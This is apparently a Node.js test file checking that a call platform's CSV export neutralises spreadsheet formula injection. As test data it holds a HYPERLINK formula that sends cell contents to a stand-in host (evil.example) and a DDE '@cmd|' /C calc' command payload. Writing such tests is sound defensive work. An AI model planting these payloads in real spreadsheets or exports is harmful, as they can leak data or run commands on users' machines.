// CSV export against CSV injection: a cell a spreadsheet would run as a formula is neutralised,
// unit by unit and through a real export whose failed CDR carries a caller's hostile userData.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import Database from 'better-sqlite3';
import { csvField, csvLine } from '../../src/api/manage/csv.js';
import { usePlatform } from '../helpers/platform.js';
import { accepted, freshApp } from '../policy/helpers.js';
import { parseCsv } from '../pushes/csv.js';
import { admin } from './helpers.js';

test('cells beginning with = + - @ tab or CR get a leading quote; others are as they were', () => {
  assert.equal(csvField('=1+1'), "'=1+1");
  assert.equal(csvField('+8613800000000'), "'+8613800000000");
  assert.equal(csvField('-2+3'), "'-2+3");
  assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
  assert.equal(csvField('\t=1+1'), "'\t=1+1");
  // A carriage return also needs RFC 4180 quoting: both rules apply, the quote first.
  assert.equal(csvField('\r=1+1'), `"'\r=1+1"`);
  assert.equal(csvField('=HYPERLINK("http://evil.example","x")'), `"'=HYPERLINK(""http://evil.example"",""x"")"`);
  assert.equal(csvField('=a,b'), `"'=a,b"`);
  // Untouched: a trigger character after the start, plain text, the empty cell, a leading quote.
  for (const v of ['a=1', 'HTTP 503', '', "'=already", '8613800000000', ' =1']) assert.equal(csvField(v), v);
  assert.equal(csvLine(['=1', 'x', '-1']), "'=1,x,'-1\r\n");
});

const ctx = usePlatform();
const call = admin(() => ctx.t);

test('an export of a failed CDR with a hostile userData and lastError: no cell starts a formula', async () => {
  const { t, rx } = ctx;
  rx.respond((req) => (req.path === '/down' ? { status: 503 } : { status: 200, body: '{"resultcode":"0"}' }));
  const p = await freshApp(t);
  const sub = await call('POST', `/v1/apps/${p.app.appKey}/subscriptions`, { url: `${rx.url}/down`, format: 'huawei', retrySchedule: [] });
  assert.equal(sub.status, 201, JSON.stringify(sub.body));
  const userData = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const placed = await p.client.callNotify({ displayNbr: p.numbers[0]!, calleeNbr: '+8613900000001', playInfoList: [{ notifyVoice: 'welcome.wav' }], userData } as never);
  accepted(placed);
  await t.run(40_000);
  await rx.until(() => rx.on('/down').length >= 5);
  // A receiver-chosen error text that starts like a formula (what last_error keeps is ours to word,
  // so the test writes one directly).
  const db = new Database(join(t.dataDir, 'voxcall.db'));
  db.prepare("UPDATE pushes SET last_error = '@cmd|'' /C calc''!A0' WHERE app_key = ? AND kind = 'record'").run(p.app.appKey);
  db.close();

  const res = await call('GET', `/v1/exports/failed-records?appKey=${p.app.appKey}&format=csv`);
  assert.equal(res.status, 200);
  const rows = parseCsv(String(res.body));
  assert.equal(rows.length, 2, String(res.body));
  const row = rows[1]!;
  for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would run as a formula`);
  assert.equal(row[6], "'@cmd|' /C calc'!A0", 'lastError neutralised, text kept');
  const item = JSON.parse(row[10]!) as Record<string, unknown>;
  assert.ok(JSON.stringify(item).includes(JSON.stringify(userData).slice(1, -1)), 'userData kept whole inside the item');
});
